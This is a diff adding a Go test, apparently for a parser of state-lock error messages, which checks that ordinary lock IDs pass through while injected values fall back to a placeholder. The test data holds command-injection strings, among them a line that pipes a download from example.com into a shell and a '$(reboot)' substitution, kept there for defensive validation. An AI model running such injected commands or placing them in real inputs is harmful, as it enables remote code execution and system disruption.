@@ -237,3 +237,17 @@ func readFile(t *testing.T, path string) string {
 	must(t, err)
 	return string(data)
 }
+
+// A state can be locked by whoever may only plan, and what a lock says of itself is theirs.
+func TestALocksIDIsNoCommand(t *testing.T) {
+	t.Parallel()
+	for id, want := range map[string]string{
+		"0b7a4f7e-1c52-4a10-93f4-9d0f5d1f2a3b": "0b7a4f7e-1c52-4a10-93f4-9d0f5d1f2a3b", "1712345678901234": "1712345678901234",
+		"x; curl https://example.com/x | sh": "LOCK_ID", "$(reboot)": "LOCK_ID", "-force": "LOCK_ID",
+	} {
+		lock := parseLock("Error: Error acquiring the state lock\n\nLock Info:\n  ID:        " + id + "\n  Path:      p\n  Who:       me@here\n")
+		if lock == nil || lock.ID != want {
+			t.Errorf("%q is read as %+v", id, lock)
+		}
+	}
+}
